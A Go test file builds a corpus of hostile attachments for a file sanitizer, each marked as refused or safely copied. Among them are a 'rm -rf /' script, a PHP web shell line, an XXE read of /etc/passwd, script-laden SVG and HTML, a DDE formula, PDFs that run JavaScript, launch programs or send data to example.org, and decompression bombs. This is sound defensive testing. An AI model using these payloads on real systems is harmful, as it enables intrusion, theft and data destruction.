package attach

import (
	"bytes"
	"fmt"
	"image"
	"strings"
	"testing"
	"unicode/utf16"
)

// hostile is one file that somebody could send, and what becomes of it: refused,
// or a copy of a kind in which nothing of it is left that could harm.
type hostile struct {
	name string
	file []byte
	kind Kind // "" is refused
}

// corpus are hostile files, made here so that none lies about.
func corpus(t testing.TB) []hostile {
	t.Helper()
	out := append(append(strangeFiles(t), pictures(t)...), heavyPictures(t)...)
	return append(append(out, documents(t)...), heavyDocuments(t)...)
}

func refusedAll(files map[string]string) []hostile {
	var out []hostile
	for name, text := range files {
		out = append(out, hostile{name: name, file: []byte(text)})
	}
	return out
}

// strangeFiles are of other kinds, or of none.
func strangeFiles(t testing.TB) []hostile {
	zip := "PK\x03\x04\x14\x00\x00\x00\x08\x00" + strings.Repeat("x", 300)
	out := refusedAll(map[string]string{
		"empty": "", "one byte": "\xff", "PDF mark alone": "%PDF-", "JPEG mark alone": "\xff\xd8\xff", "PNG mark alone": pngMagic,
		"zip": zip, "docx": "PK\x03\x04\x14\x00\x06\x00[Content_Types].xml word/vbaProject.bin", "jar": "PK\x03\x04META-INF/MANIFEST.MF",
		"zip called JPEG": "\xff\xd8\xff" + zip, "zip before PDF": zip + string(page("", "")), "doc with macros": "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 512),
		"rtf": `{\rtf1\ansi{\object\objocx}}`, "gif": "GIF89a\x01\x00\x01\x00", "gif and jar": "GIF89a" + zip, "webp": "RIFF\x10\x00\x00\x00WEBPVP8 ",
		"tiff": string(madeTIFF(t)), "tiff of a Mac": "MM\x00*\x00\x00\x00\x08", "bmp": "BM\x36\x00\x00\x00", "ico": "\x00\x00\x01\x00\x01\x00",
		"heic": "\x00\x00\x00\x18ftypheic\x00\x00\x00\x00", "heic of bursts": "\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00", "avif": "\x00\x00\x00\x18ftypavif\x00\x00\x00\x00",
		"program of Windows": "MZ\x90\x00", "program of Linux": "\x7fELF\x02\x01\x01", "script": "#!/bin/sh\nrm -rf /\n", "class": "\xca\xfe\xba\xbe\x00\x00\x00\x34", "wasm": "\x00asm\x01\x00\x00\x00",
		"gzip": "\x1f\x8b\x08\x00", "bzip2": "BZh91AY&SY", "xz": "\xfd7zXZ\x00\x00", "7z": "7z\xbc\xaf\x27\x1c", "rar": "Rar!\x1a\x07\x01\x00", "zstd": "\x28\xb5\x2f\xfd\x04",
		"tar": "name" + strings.Repeat("\x00", 253) + "ustar\x0000", "svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
		"svg behind blanks": "\ufeff \n\t<svg><script>alert(1)</script></svg>", "html": "<!DOCTYPE html><script>alert(1)</script>", "html in capitals": "\n<HTML><BODY ONLOAD=x>",
		"script in a text": "She said:\n<sCrIpT src=//x></ScRiPt>", "xml": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>`, "php": "notes <?php system($_GET[0]); ?>",
		"html in UTF-16": utf16le("<html><script>alert(1)</script>"), "odd UTF-16": "\xff\xfea", "half a pair in UTF-16": "\xff\xfe\x00\xd8",
		"NUL in a text": "a\x00b", "broken UTF-8": "caf\xe9 \xff", "commands to a terminal": "\x1b]0;title\x07", "PostScript": "%!PS-Adobe-3.0 (file) run",
		"too large": strings.Repeat("a", 10<<20+1)})
	return append(out, hostile{"words from right to left", []byte("\u202egpj.txt \u05d0\u05d1 seven lanterns"), Text}, hostile{"a mail with commands", []byte("=cmd|' /C calc'!A0"), Text})
}

func utf16le(s string) string {
	out := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return string(out)
}

// pictures tell more than they show, or are not what they say.
func pictures(t testing.TB) []hostile {
	good, dots := madeJPEG(t, shade(40, 30)), madePNG(t, shade(40, 30))
	zip := []byte("PK\x03\x04" + secret)
	sof := bytes.Index(good, []byte{0xff, 0xc0})
	changed := func(at int, with ...byte) []byte {
		out := bytes.Clone(good)
		copy(out[at:], with)
		return out
	}
	scan := good[bytes.Index(good, []byte{0xff, 0xda}) : len(good)-2]
	many := bytes.Join([][]byte{good[:len(good)-2], bytes.Repeat(scan, 5000), {0xff, 0xd9}}, nil)
	broken := bytes.Clone(dots)
	broken[40] ^= 1
	idat := func(n int64) []byte { return chunkOf("IDAT", zeros(t, n)) }
	text := chunkOf("tEXt", []byte("Author\x00"+secret))
	return []hostile{
		{"JPEG with place and name", behind(good, exif(1)), JPEG}, {"JPEG on its side with place", behind(good, exif(6)), JPEG},
		{"JPEG with a comment", behind(good, segment(0xfe, secret)), JPEG}, {"JPEG with XMP", behind(good, segment(0xe1, "http://ns.adobe.com/xap/1.0/\x00<x>"+secret)), JPEG},
		{"JPEG with a profile", behind(good, segment(0xe2, "ICC_PROFILE\x00\x01\x01"+secret)), JPEG}, {"JPEG and zip", append(bytes.Clone(good), zip...), JPEG},
		{"JPEG and page", append(bytes.Clone(good), "<script>"+secret...), JPEG},
		{"JPEG of 65,535 by 65,535", changed(sof+5, 0xff, 0xff, 0xff, 0xff), ""}, {"JPEG of no height", changed(sof+5, 0, 0), ""}, {"JPEG cut off", good[:len(good)/2], ""},
		{"JPEG without an end", good[:len(good)-2], ""}, {"JPEG without a frame", append([]byte{0xff, 0xd8}, segment(0xda, "\x01\x01\x00\x00\x3f\x00")...), ""},
		{"JPEG by arithmetic", changed(sof, 0xff, 0xc9), ""}, {"JPEG without loss", changed(sof, 0xff, 0xc3), ""}, {"JPEG of 5,000 passes", many, ""},
		{"JPEG of two frames", behind(good, good[sof:sof+19]), ""}, {"JPEG with EXIF that points nowhere", behind(good, segment(0xe1, "Exif\x00\x00MM\x00*\xff\xff\xff\xff")), JPEG},
		{"JPEG with a segment past the end", behind(good, []byte{0xff, 0xe1, 0xff, 0xff}), ""},
		{"PNG with a name", into(dots, text), PNG}, {"PNG with EXIF", into(dots, chunkOf("eXIf", exif(1)[10:])), PNG}, {"PNG and zip", append(bytes.Clone(dots), zip...), PNG},

		{"PNG of 2^31 dots", pngOf(1<<31-1, 1, 8, 6, 0, idat(100)), ""}, {"PNG of 30,000 by 30,000", pngOf(30000, 30000, 8, 0, 0, idat(1000)), ""},
		{"PNG of 39 million dots in 16 bits, laced", pngOf(6500, 6000, 16, 6, 1, idat(1000)), ""}, {"PNG of no width", pngOf(0, 5, 8, 6, 0, idat(10)), ""},
		{"PNG with a wrong sum", broken, ""}, {"PNG cut off", dots[:len(dots)-20], ""},
		{"PNG of two heads", into(dots, dots[8:33]), ""}, {"PNG without dots", pngOf(8, 8, 8, 0, 0), ""}, {"PNG with an endless chunk", append(bytes.Clone(dots[:33]), 0x7f, 0xff, 0xff, 0xff, 'I', 'D', 'A', 'T'), ""},
	}
}

// heavyPictures unpack to far more than they seem to be, or nearly to too much.
func heavyPictures(t testing.TB) []hostile {
	dots := madePNG(t, shade(40, 30))
	return []hostile{
		{"PNG with a packed text of 20 MB", into(dots, chunkOf("zTXt", append([]byte("a\x00\x00"), zeros(t, 20<<20)...))), PNG},
		{"PNG with a packed profile of 20 MB", into(dots, chunkOf("iCCP", append([]byte("a\x00\x00"), zeros(t, 20<<20)...))), PNG},
		{"PNG with more in it than dots", pngOf(8, 8, 8, 0, 0, chunkOf("IDAT", zeros(t, 20<<20))), ""},
		{"PNG of 12 million dots", madePNG(t, image.NewGray(image.Rect(0, 0, 4000, 3000))), PNG},
	}
}

// documents act, carry or tell something, or lie about themselves.
func documents(t testing.TB) []hostile {
	js := "<</S/JavaScript/JS(app.alert\\('" + secret + "'\\))>>"
	annots := func(more string) string { return "/Annots[" + more + "]" }
	note := func(more string) string { return "<</Type/Annot/Rect[0 0 9 9]" + more + ">>" }
	photo := behind(madeJPEG(t, shade(20, 20)), exif(1))
	image := "/Type/XObject/Subtype/Image/Width 20/Height 20/ColorSpace/DeviceRGB/BitsPerComponent 8"
	attached := streamOf("/Type/EmbeddedFile", []byte(secret))
	spec := "<</Type/Filespec/F(run.exe)/EF<</F 6 0 R>>>>"
	good := string(page("", ""))
	return []hostile{
		{"PDF that acts when opened", page("/OpenAction"+js, ""), PDF}, {"PDF that acts by reference", page("/OpenAction 6 0 R", "", js), PDF},
		{"PDF with a name in disguise", page("/Open#41ction<</S/J#61vaScript/J#53("+secret+")>>", ""), PDF},
		{"PDF page that acts", page("", "/AA<</O"+js+">>"), PDF}, {"PDF with named scripts", page("/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", "", js), PDF},
		{"PDF with a script in a packed object", page("/OpenAction 9 0 R", "", objectsIn(t, map[int]string{9: js})), PDF},
		{"PDF with a file in it", page("/Names<</EmbeddedFiles<</Names[(a) 7 0 R]>>>>", "", attached, spec), PDF},
		{"PDF with a file pinned on", page("", annots(note("/Subtype/FileAttachment/FS 7 0 R")), attached, spec), PDF},
		{"PDF with a file beside the page", page("/AF[7 0 R]", "/AF[7 0 R]", attached, spec), PDF},
		{"PDF with a link", page("", annots(note("/Subtype/Link/A<</S/URI/URI(https://example.org/"+secret+")>>"))), PDF},
		{"PDF that starts a program", page("/OpenAction<</S/Launch/F(run.exe)>>", annots(note("/Subtype/Link/A<</S/Launch/F(run.exe)>>"))), PDF},
		{"PDF that sends what is typed", page("/AcroForm<</Fields[6 0 R]>>", annots("6 0 R"), note("/Subtype/Widget/FT/Tx/T(a)/V(Seven lanterns)/A<</S/SubmitForm/F(https://example.org)>>/AA<</K"+js+">>")), PDF},
		{"PDF with a form of XML", page("/AcroForm<</XFA 6 0 R>>", "", streamOf("", []byte("<xdp>"+secret))), PDF},
		{"PDF with a film", page("", annots(note("/Subtype/RichMedia/RichMediaContent<</Assets<<>>>>"))), PDF},
		{"PDF that tells of itself", page("/Metadata 6 0 R/PieceInfo<</A("+secret+")>>", "/Metadata 6 0 R", streamOf("/Type/Metadata/Subtype/XML", []byte("<x>"+secret))), PDF},
		{"PDF with an author", pdfWith("/Info<</Author("+secret+")>>", onePage("", "")...), PDF},
		{"PDF with a photo of a place", page("", "", streamOf(image+"/Filter/DCTDecode", photo)), PDF},
		{"PDF that draws a photo of a place", pdfOf(append(onePage("", draws(6, 7, 8)), streamOf(image+"/Filter/DCTDecode", photo),
			streamOf(image+"/Filter[/FlateDecode/DCTDecode]", packed(t, bytes.NewReader(photo))), streamOf(image+"/Filter/JPXDecode", jp2()))...), PDF},
		{"PDF that fetches a stream", page("", draws(6), streamOf("/F(https://example.org/"+secret+")/FFilter/FlateDecode", nil)), PDF},
		{"PDF with a page that acts inside a drawing", page("", draws(6)+"/Group<</S 6 0 R/CS "+js+"/G[<</Type/Action/S/Named>>]>>", js), PDF},
		{"PDF of three dimensions", page("", draws(6), streamOf("/Type/3D/Subtype/U3D", []byte(secret))), PDF},
		{"PDF changed at its end", []byte(good + "6 0 obj\n" + js + "\nendobj\n1 0 obj\n<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R>>\nendobj\ntrailer\n<</Root 1 0 R/Prev 0>>\nstartxref\n0\n%%EOF\n"), PDF},
		{"PDF whose table goes round", []byte(strings.Replace(good, "/Root", "/Prev "+fmt.Sprint(strings.Index(good, "xref"))+"/Root", 1)), PDF},
		{"PDF that says a million pages", []byte(strings.Replace(good, "/Count 1>>", "/Count 1000000>>", 1)), PDF},
		{"PDF behind other bytes", []byte("MIME-Version: 1.0\n" + good), ""}, {"PDF cut off", []byte(good[:len(good)/2]), ""}, {"PDF and zip", []byte(good + "PK\x03\x04" + strings.Repeat("x", 4096)), ""},
		{"PDF under a password", pdfWith("/Encrypt<</Filter/Standard/V 2>>", onePage("", "")...), ""},
		{"PDF under a password in a stream", page("", "", streamOf("/Type/XRef/Root 1 0 R/Encrypt 7 0 R", nil)), ""},
		{"PDF without pages", pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]>>"), ""}, {"PDF without a first object", pdfOf("<</Type/Pages>>"), ""},
		{"PDF whose pages go round", pdfOf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[2 0 R]>>"), ""},
		{"PDF of objects that mean each other", pdfOf("<</Type/Catalog/Pages 2 0 R>>", "3 0 R", "2 0 R"), ""},
	}
}

// jp2 is the frame of a JPEG 2000 file with a box that tells.
func jp2() []byte {
	box := func(kind, data string) string { return string([]byte{0, 0, 0, byte(8 + len(data))}) + kind + data }
	return []byte(box("jP  ", "\r\n\x87\n") + box("xml ", secret) + box("uuid", secret) + box("jp2c", codesSized(20)+"\xff\xd9"))
}

// heavyDocuments are far more than they seem to be.
func heavyDocuments(t testing.TB) []hostile {
	kids := func(n int) []byte {
		return []byte(strings.Replace(string(page("", "")), "/Kids[3 0 R]", "/Kids["+strings.Repeat("3 0 R ", n)+"]", 1))
	}
	bomb := zeros(t, 70<<20)
	content := func(dict string, b []byte) []byte {
		objects := onePage("", "")
		objects[3] = streamOf(dict, b)
		return pdfOf(objects...)
	}
	deep := func(open, shut string, n int) []byte {
		return page("", "/Group "+strings.Repeat(open, n)+strings.Repeat(shut, n))
	}
	many := map[int]string{}
	for i := range 100 {
		many[100+i] = "(" + strings.Repeat("a", 40_000) + ")"
	}
	return []hostile{
		{"PDF of a page 300,000 times", kids(300_000), ""}, {"PDF of 201 pages", kids(201), ""}, {"PDF of 200 pages", kids(200), PDF},
		{"PDF that unpacks to 70 MB", content("/Filter/FlateDecode", bomb), ""}, {"PDF packed twice", content("/Filter[/FlateDecode/FlateDecode]", packed(t, bytes.NewReader(bomb))), ""},
		{"PDF packed nine times", content("/Filter["+strings.Repeat("/FlateDecode", 9)+"]", []byte("x")), ""}, {"PDF packed by letters", content("/Filter/LZWDecode", bytes.Repeat([]byte{0x80, 0x0b, 0x60, 0x50}, 200)), PDF},
		{"PDF with a picture of 60,000 by 60,000", page("", draws(6), streamOf("/Subtype/Image/Width 60000/Height 60000", nil)), ""},
		{"PDF with objects of 70 MB", page("", "", streamOf("/Type/ObjStm/N 5/First 100/Filter/FlateDecode", bomb)), ""},
		{"PDF with objects in one place", page("", "/Group 150 0 R", objectsIn(t, many)), PDF},
		{"PDF of arrays in arrays", deep("[", "]", 100_000), ""}, {"PDF of dictionaries in dictionaries", deep("<</A", ">>", 100_000), ""},
		{"PDF of strings without end", []byte(string(page("", "")) + strings.Repeat("9 0 obj (", 50_000) + "\n%%EOF"), PDF},
		{"PDF of two million values", page("", "/Group["+strings.Repeat("1 ", 2_100_000)+"]"), ""},
		{"PDF of 100,000 words obj", []byte("%PDF-1.7\n" + strings.Repeat("1 0 obj ", 100_000) + "%%EOF"), ""},
		{"PDF of a great number", page("", "/Group 99999999999999999999 0 R", "<</A 4294967297 0 R>>"), ""},
		{"PDF of notes without end", page("", "/Annots["+strings.Repeat("6 0 R ", 30_000)+"]", "<</Subtype/Square/Rect[0 0 1 1]>>"), ""},
	}
}
